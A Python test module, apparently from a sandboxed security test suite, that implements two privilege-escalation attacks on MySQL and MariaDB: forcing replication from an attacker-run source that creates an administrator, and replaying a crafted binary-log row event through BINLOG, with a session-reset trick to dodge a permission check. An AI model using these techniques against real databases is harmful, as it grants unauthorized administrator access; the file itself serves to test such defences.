"""The attacks that feed a server foreign changes: from a source of the attacker's, or from its binary log."""

from __future__ import annotations

import base64
import secrets
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pymysql

from sandbox.engines import RunningServer
from tests.worker_lambda.escalation.arena import POWERS, Account, Arena
from tests.worker_lambda.escalation.attacks import insert_row

_COM_RESET_CONNECTION = 0x1F
# Event types of a binary log: https://dev.mysql.com/doc/dev/mysql-server/latest/ (Log_event_type).
_FORMAT_DESCRIPTION, _TABLE_MAP, _WRITE_ROWS = 15, 19, (23, 30)
_FIRST_EVENT_AT = 4
_COMMANDS = {
    "mysql": (
        "CHANGE REPLICATION SOURCE TO SOURCE_HOST='127.0.0.1', SOURCE_PORT={port}, SOURCE_USER='feed', SOURCE_SSL=1, "
        "SOURCE_PASSWORD='{password}', SOURCE_LOG_FILE='{file}', SOURCE_LOG_POS=4",
        "START REPLICA",
        "STOP REPLICA",
        "RESET REPLICA ALL",
    ),
    "mariadb": (
        "CHANGE MASTER TO MASTER_HOST='127.0.0.1', MASTER_PORT={port}, MASTER_USER='feed', MASTER_SSL=1, "
        "MASTER_SSL_VERIFY_SERVER_CERT=0, MASTER_PASSWORD='{password}', MASTER_LOG_FILE='{file}', MASTER_LOG_POS=4, "
        "MASTER_USE_GTID=no",
        "START SLAVE",
        "STOP SLAVE",
        "RESET SLAVE ALL",
    ),
}


def follow_a_source(arena: Arena, attacker: Account) -> Account:
    """Make the server copy from the attacker's own, which sends it an administrator."""
    source = arena.source()
    gift, feed = Account("replicated", secrets.token_urlsafe(24)), secrets.token_urlsafe(24)[:32]
    _on(source, "DROP USER IF EXISTS feed@'%'", f"CREATE USER feed@'%' IDENTIFIED BY '{feed}'")
    _on(source, "GRANT REPLICATION SLAVE ON *.* TO feed@'%'", f"DROP USER IF EXISTS {gift}")
    log = _fresh_log(source)
    _on(source, f"CREATE USER {gift} IDENTIFIED BY '{gift.password}'")
    _on(source, f"GRANT {POWERS} ON *.* TO {gift} WITH GRANT OPTION")
    change, start, stop, reset = _COMMANDS[arena.flavour]
    arena.run_as(attacker, change.format(port=source.port, password=feed, file=log.name))
    try:
        arena.run_as(attacker, start)
        arena.wait_for(gift)
    finally:
        arena.as_root(stop, reset)
    return gift


def replay_a_binary_log(arena: Arena, attacker: Account) -> Account:
    """Run the row event of an INSERT into the grant table, made on the attacker's own server."""
    source, name = arena.source(), f"{attacker.name}_new"
    log = _fresh_log(source)
    _on(source, insert_row(arena.flavour, name))
    events = list(_events(log.read_bytes()))
    description = b"".join(event for kind, event in events if kind == _FORMAT_DESCRIPTION)
    rows = b"".join(event for kind, event in events if kind in (_TABLE_MAP, *_WRITE_ROWS))
    with closing(arena.log_in(attacker)) as connection, connection.cursor() as cursor:
        cursor.execute(f"BINLOG '{base64.b64encode(description).decode()}'")
        _forget_gtid_next(connection)
        cursor.execute(f"BINLOG '{base64.b64encode(rows).decode()}'")
    arena.flush()
    return Account(name, "")


def _forget_gtid_next(connection: pymysql.Connection[Any]) -> None:
    """Reset the session, which keeps the format description.

    With gtid_mode=ON MySQL answers the rows with 1782, because the description has changed the session's gtid_next,
    which BINLOG_ADMIN may not set (1227). A reset sets it, and asks for no right.
    """
    connection._execute_command(_COM_RESET_CONNECTION, b"")  # type: ignore[attr-defined]
    connection._read_ok_packet()  # type: ignore[attr-defined]


def _fresh_log(source: RunningServer) -> Path:
    rows = _on(source, "FLUSH BINARY LOGS", "SHOW BINARY LOGS")
    base = _on(source, "SELECT @@log_bin_basename")[0][0]
    return Path(str(base)).with_name(str(rows[-1][0]))


def _events(log: bytes) -> Iterator[tuple[int, bytes]]:
    """Type and bytes of each event; a header is time (4), type (1), server id (4), length (4), little endian."""
    at = _FIRST_EVENT_AT
    while at < len(log):
        length = int.from_bytes(log[at + 9 : at + 13], "little")
        yield log[at + 4], log[at : at + length]
        at += length


def _on(server: RunningServer, *statements: str) -> list[tuple[object, ...]]:
    rows: list[tuple[object, ...]] = []
    with server.connect() as connection, connection.cursor() as cursor:
        for statement in statements:
            cursor.execute(statement)
            rows = list(cursor.fetchall())
    return rows
